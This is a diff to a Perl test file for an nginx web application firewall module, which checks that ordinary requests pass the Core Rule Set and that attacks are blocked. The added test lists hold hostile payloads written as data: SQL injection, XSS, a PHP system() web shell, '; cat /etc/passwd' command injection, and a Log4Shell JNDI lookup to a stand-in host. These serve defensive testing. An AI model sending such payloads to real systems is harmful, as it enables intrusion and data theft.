@@ -1,5 +1,5 @@
-# What people and programs send passes the Core Rule Set at paranoia 1, wherever it stands; what does not is known, with the rule
-# and what takes it away (docs/inspection.md). Attacks in the same places are refused.
+# What people and programs send passes at paranoia 1, wherever it stands; what does not in a path is known, with the rule.
+# Attacks in the same places are refused.
 
 use strict;
 use warnings;
@@ -9,12 +9,6 @@ use MIME::Base64 qw(encode_base64);
 use Test::More;
 use Test::Nginx::Guard;
 use Test::Nginx::Guard::Client qw(header_of);
-
-# The values that the Core Rule Set minds, and by which rule, wherever they stand.
-my %known = (
-    '**Important**: bring the [agenda](https://example.com/agenda) with you' => 933210,    # a link in Markdown looks like a call in PHP
-    'Здравствуйте! Когда будет доставлен мой заказ?'                         => 941310,    # bytes of Cyrillic letters look like "<...>" in US-ASCII of 8 bits
-);
 
 sub lines_of {
     my ($name) = @_;
@@ -114,7 +108,6 @@ for my $value (@values) {
     for my $place (everywhere($value), beyond($value)) {
         push @names,    "$value ($place->[0])";
         push @requests, $place->[1];
-        $expected{ $names[-1] } = "403 $known{$value},949110" if $known{$value} && $place->[0] !~ /^(?:path|header field)/;
     }
 }
 push @names, map { "query string $_" } @queries;
@@ -131,7 +124,7 @@ for my $i (0 .. $#requests) {
 }
 is_deeply \%minded, \%expected, 'ordinary requests pass, and match no rule' or diag explain \%minded;
 
-my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '$(id)', '${jndi:ldap://x.example/a}');
+my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '$(id)', "\xbcscript\xbealert(1)\xbc/script\xbe", '(system)(ls);', '(alert)(1)', '${jndi:ldap://x.example/a}');
 my @places  = named(\&everywhere, @attacks);
 # What the Core Rule Set lets pass, and Guard's own rules do not.
 my @own = named(\&beyond, '1 or 1=1', '1 union select 1,2 from x', '1/**/and/**/1=(select 1)', '1 AND 2752=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))');
